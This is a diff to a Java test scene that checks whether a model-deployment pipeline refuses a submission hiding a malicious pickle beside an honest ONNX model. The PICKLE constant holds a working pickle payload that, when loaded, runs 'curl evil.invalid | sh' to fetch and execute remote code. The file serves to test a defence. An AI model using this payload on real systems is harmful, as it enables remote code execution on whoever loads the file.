@@ -9,6 +9,7 @@ import dev.weir.events.ScanVerdict;
 import dev.weir.events.TrainingCompleted;
 import java.io.IOException;
 import java.nio.charset.StandardCharsets;
+import java.util.Map;
 import java.util.stream.Collectors;
 
 /** Somebody submits a pickle that would run a command when it is loaded. */
@@ -18,13 +19,26 @@ final class HostileModelScene implements Scene {
     private static final byte[] PICKLE =
             "cposix\nsystem\n(S'curl evil.invalid | sh'\ntR.".getBytes(StandardCharsets.US_ASCII);
 
+    private final Journey honest;
+
+    /**
+     * Hides the pickle beside an honest model.
+     *
+     * @param honest a version whose file is copied
+     */
+    HostileModelScene(Journey honest) {
+        this.honest = honest;
+    }
+
     @Override
     public void play(Stage stage) throws SceneFailure, IOException, InterruptedException {
         stage.chapter("A hostile model is submitted");
-        Submission submission = new Submission("gift-horse", "sklearn", "model.pkl", PICKLE);
+        byte[] onnx = ModelFile.of(honest).withDescription("a gift");
+        Submission submission =
+                new Submission("gift-horse", Map.of("model.onnx", onnx, "preprocessing.pkl", PICKLE));
         TrainingCompleted run =
                 submission.deposit(stage.mesh().folder(), stage.clock().instant());
-        stage.tell("Somebody submits gift-horse, a pickle that would run a shell command when it is loaded");
+        stage.tell("Somebody submits gift-horse: a model, and a pickle that would run a shell command when it is loaded");
         Heard<TrainingCompleted> training = stage.hear(
                 Steps.training(stage.producer().say("training.completed", run.getModel(), run)),
                 event -> "run %s".formatted(event.getRunId()));
@@ -40,7 +54,7 @@ final class HostileModelScene implements Scene {
     private static String refused(DeploymentBlocked event) {
         return event.getModel() + " is not deployed: "
                 + event.getGates().stream()
-                        .filter(gate -> gate.getOutcome() != GateOutcome.PASSED)
+                        .filter(gate -> gate.getOutcome() == GateOutcome.REFUSED)
                         .map(GateResult::getReason)
                         .collect(Collectors.joining("; "));
     }
